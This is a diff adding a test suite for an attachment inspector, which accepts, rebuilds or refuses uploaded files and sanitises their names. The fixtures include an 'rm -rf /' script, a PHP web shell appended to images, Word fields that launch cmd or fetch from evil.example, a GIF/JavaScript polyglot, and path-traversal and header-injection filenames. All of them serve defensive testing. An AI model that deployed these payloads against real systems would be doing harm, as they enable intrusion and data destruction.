@@ -1,0 +1,197 @@
+import {
+  html,
+  makeDoc,
+  makeDocx,
+  makePdf,
+  makePhoto,
+  makeZip,
+  svg,
+} from '#test/fixtures/attachment-files.ts'
+import sharp from 'sharp'
+import { describe, expect, it, test } from 'vitest'
+import { inspectAttachment } from './inspect-attachment.ts'
+
+const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
+
+const inspect = (file: Buffer | string, name = 'file') =>
+  inspectAttachment(Buffer.from(file), name, 1)
+const refused = { code: 'file_not_taken' }
+
+describe('what may be attached', () => {
+  test.each(['jpeg', 'png', 'webp', 'gif'] as const)('%s', async (format) => {
+    expect(await inspect(await makePhoto(format))).toMatchObject({ type: `image/${format}` })
+  })
+
+  test.each<[string, string, Buffer | string]>([
+    ['a Word 97 document', 'application/msword', makeDoc()],
+    [
+      'a Word 97 document with a page number, a link and no embedded objects',
+      'application/msword',
+      makeDoc(['WordDocument', 'ObjectPool'], undefined, {
+        text: '\x13 PAGE \x141\x15\x13HYPERLINK "https://example.com/"\x14링크\x15\r',
+      }),
+    ],
+    ['text', 'text/plain', '결제가 두 번 됐어요.\r\n\t확인해 주세요 😀'],
+    ['text with a byte order mark', 'text/plain', '\ufeff결제가 두 번 됐어요.'],
+    ['text in EUC-KR', 'text/plain', Buffer.from('b0e1c1a6b0a1', 'hex')],
+    ['text about markup', 'text/plain', '화면에 <b>결제</b>라고 나와요'],
+  ])('keeps %s byte for byte', async (_, type, file) => {
+    const found = await inspect(file)
+    expect(found.type).toBe(type)
+    expect(found.bytes.equals(Buffer.from(file))).toBe(true)
+  })
+})
+
+describe('documents are rebuilt', () => {
+  it.each([
+    ['a PDF', 'application/pdf', makePdf],
+    ['a Word document', docx, () => makeDocx()],
+  ] as const)('%s keeps its type, and its result is taken again', async (_, type, make) => {
+    const once = await inspect(make())
+    expect(once.type).toBe(type)
+    expect((await inspect(once.bytes)).type).toBe(type)
+  })
+
+  it.each([
+    [
+      'a PDF with a script',
+      makePdf(['4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n']),
+    ],
+    ['a Word document with macros', makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
+    ['markup before a PDF', Buffer.concat([Buffer.from(html), makePdf()])],
+    ['a PDF that ends early', makePdf().subarray(0, 60)],
+  ])('%s is refused', async (_, file) => {
+    await expect(inspect(file)).rejects.toMatchObject(refused)
+  })
+})
+
+describe('what may not', () => {
+  test.each<[string, Buffer | string]>([
+    ['nothing', ''],
+    ['nothing but white space', ' \n\t'],
+    ['SVG', svg],
+    ['SVG behind a declaration', `<?xml version="1.0"?>\n${svg}`],
+    ['HTML', html],
+    ['HTML behind a mark and white space', `\ufeff\n  ${html}`],
+    ['HTML behind a comment', `<!-- x -->${html}`],
+    ['Rich Text', '{\\rtf1{\\object\\objemb}}'],
+    ['PostScript', '%!PS-Adobe-3.0'],
+    ['a script', '#!/bin/sh\nrm -rf /'],
+    ['a page in a mail', 'MIME-Version: 1.0\nContent-Type: text/html\n\n<script>'],
+    ['text with controls', 'a\x1b[2Jb'],
+    ['text with NUL', 'a\0b'],
+    ['neither UTF-8 nor EUC-KR', Buffer.from('ff41ff42', 'hex')],
+    ['a program', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')],
+    ['a bitmap', Buffer.from('BM\x46\0\0\0\0\0\0\0', 'latin1')],
+    ['a camera’s HEIC', Buffer.from('\0\0\0\x18ftypheic\0\0\0\0', 'latin1')],
+    ['a film', Buffer.from('\0\0\0\x20ftypisom\0\0\x02\0', 'latin1')],
+    ['an archive', makeZip([{ name: 'a.txt', content: 'a' }])],
+    ['a workbook', makeZip([{ name: 'xl/workbook.xml', content: '<workbook/>' }])],
+    ['an empty archive', makeZip([])],
+    ['a JPEG that ends early', Buffer.from('ffd8ffe000104a464946', 'hex')],
+    ['a GIF that is a script', 'GIF89a/*\n*/=1;alert(1)'],
+    ['DOC', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
+    ['a DOC with macros', makeDoc(['WordDocument', 'Macros'])],
+    ['a DOC with a project', makeDoc(['WordDocument', '_VBA_PROJECT'])],
+    [
+      'a DOC with objects in their place',
+      makeDoc(['WordDocument', 'ObjectPool'], (file) => file.writeUInt32LE(3, 1_024 + 256 + 76)),
+    ],
+    ['a DOC with an object', makeDoc(['WordDocument', '\x01Ole10Native'])],
+    ['a workbook of Excel 97', makeDoc(['Workbook'])],
+    ['a document of Hangul', makeDoc(['FileHeader', 'BodyText'])],
+    [
+      'a DOC that starts a program',
+      makeDoc(undefined, undefined, { text: '\x13 DDEAUTO c:\\\\cmd \x14\x15\r' }),
+    ],
+    [
+      'a DOC that loads a picture',
+      makeDoc(undefined, undefined, { text: '\x13INCLUDEPICTURE "http://evil.example/a"\x15\r' }),
+    ],
+    [
+      'a DOC that loads a template',
+      makeDoc(undefined, undefined, { template: '\\\\evil.example\\a.dot' }),
+    ],
+    ['a DOC with an unknown stream', makeDoc(['WordDocument', 'Contents'])],
+    ['a locked document', makeDoc(['EncryptedPackage', 'WordDocument'])],
+    ['a DOC with a password', makeDoc(undefined, (file) => file.writeUInt16LE(0x0100, 2_058))],
+    ['a DOC without its mark', makeDoc(undefined, (file) => file.writeUInt16LE(0, 2_048))],
+    ['a DOC that leads out', makeDoc(undefined, (file) => file.writeUInt32LE(1e9, 48))],
+    ['a DOC of an odd size', makeDoc(undefined, (file) => file.writeUInt16LE(31, 30))],
+    ['a DOC that is an archive', Buffer.concat([makeDoc(), makeDocx()])],
+  ])('%s', async (_, file) => {
+    await expect(inspect(file)).rejects.toMatchObject(refused)
+  })
+})
+
+describe('images are drawn anew', () => {
+  test('without what the camera wrote, upright', async () => {
+    const photo = await sharp(await makePhoto('jpeg'))
+      .keepExif()
+      .withMetadata({ orientation: 6 })
+      .toBuffer()
+    expect((await sharp(photo).metadata()).exif).toBeDefined()
+    const { bytes } = await inspect(photo)
+    const after = await sharp(bytes).metadata()
+    expect(after).toMatchObject({ format: 'jpeg', width: 48, height: 64 })
+    for (const gone of ['exif', 'xmp', 'iptc', 'icc', 'orientation'] as const)
+      expect(after[gone]).toBeUndefined()
+    expect(bytes.includes('Hanpyeon Phone')).toBe(false)
+  })
+
+  test.each(['jpeg', 'png', 'webp', 'gif'] as const)(
+    'a %s that is something else, too, is an image afterwards and nothing more',
+    async (format) => {
+      for (const hidden of [Buffer.from(html), makeDocx(), Buffer.from('<?php system($_GET[0])')]) {
+        const { type, bytes } = await inspect(Buffer.concat([await makePhoto(format), hidden]))
+        expect(type).toBe(`image/${format}`)
+        expect(bytes.includes(hidden.subarray(0, 20))).toBe(false)
+      }
+    },
+  )
+
+  test('one that moves keeps moving, within bounds, and else stands still', async () => {
+    const frames = (count: number, side: number) => {
+      const pixels = Buffer.alloc(side * side * 3 * count)
+      for (let at = 0; at < count; at++)
+        pixels.fill((at * 80) % 251, at * side * side * 3, (at + 1) * side * side * 3)
+      const raw = { width: side, height: side * count, pageHeight: side, channels: 3 as const }
+      return sharp(pixels, { raw, limitInputPixels: false })
+        .gif({ effort: 1, dither: 0 })
+        .toBuffer()
+    }
+    const small = await inspect(await frames(3, 20))
+    expect(await sharp(small.bytes, { animated: true }).metadata()).toMatchObject({ pages: 3 })
+    const large = await inspect(await frames(11, 1_000))
+    expect((await sharp(large.bytes, { animated: true }).metadata()).pages ?? 1).toBe(1)
+  })
+
+  test('of more than 40 megapixels none is opened', async () => {
+    const vast = await makePhoto('png', { width: 8_001, height: 5_000 })
+    await expect(inspect(vast)).rejects.toMatchObject(refused)
+  })
+})
+
+test.each<[given: string, type: 'text' | 'pdf', kept: string]>([
+  ['영수증.txt', 'text', '영수증.txt'],
+  ['영수증.TXT', 'text', '영수증.TXT'],
+  ['영수증.txt'.normalize('NFD'), 'text', '영수증.txt'],
+  ['영수증', 'pdf', '영수증.pdf'],
+  ['견적.hwp', 'pdf', '견적.hwp.pdf'],
+  ['../../etc/passwd', 'text', 'passwd.txt'],
+  ['C:\\Users\\김한편\\메모.txt', 'text', '메모.txt'],
+  ['..\\..\\con', 'text', '_con.txt'],
+  ['.bashrc', 'text', 'bashrc.txt'],
+  ['a\r\nSet-Cookie: x=1.txt', 'text', 'aSet-Cookie_ x=1.txt'],
+  ['\u202egnp.exe.txt', 'text', 'gnp.exe.txt'],
+  ['a\u202e\u2066\u200f\u0000b.pdf', 'pdf', 'ab.pdf'],
+  ['<img src=x onerror=1>.pdf', 'pdf', '_img src=x onerror=1_.pdf'],
+  ['가족 👨‍👩‍👧.pdf', 'pdf', '가족 👨‍👩‍👧.pdf'],
+  ['', 'pdf', '첨부파일.pdf'],
+  ['   ...   ', 'text', '첨부파일.txt'],
+  ['.pdf', 'pdf', '첨부파일.pdf'],
+  [`${'가'.repeat(300)}.pdf`, 'pdf', `${'가'.repeat(60)}.pdf`],
+])('%j is kept as a name that is one', async (given, type, kept) => {
+  const file = type === 'pdf' ? makePdf() : 'text'
+  expect((await inspect(file, given)).name).toBe(kept)
+})
